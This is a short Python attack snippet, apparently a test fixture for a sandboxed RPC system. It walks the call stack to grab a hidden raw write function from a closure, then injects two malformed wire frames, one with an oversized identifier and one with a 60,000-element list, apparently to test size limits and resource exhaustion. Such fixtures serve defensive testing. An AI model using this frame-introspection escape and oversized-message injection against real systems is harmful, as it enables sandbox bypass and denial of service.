#{own_nothing}
# <attack>
import sys

_frame = sys._getframe()
while "side" not in _frame.f_locals:
    _frame = _frame.f_back
_write = _frame.f_locals["side"].send.__closure__[0].cell_contents
_write(sys.modules["wire"].frame(b'["l","ask","call",["i","' + b"f" * 1025 + b'"],["l"],["d"]]'))
_write(sys.modules["wire"].frame(b'["l","ask","call",["l",' + b",".join([b'["f","1"]'] * 60_000) + b'],["l"],["d"]]'))
# </attack>
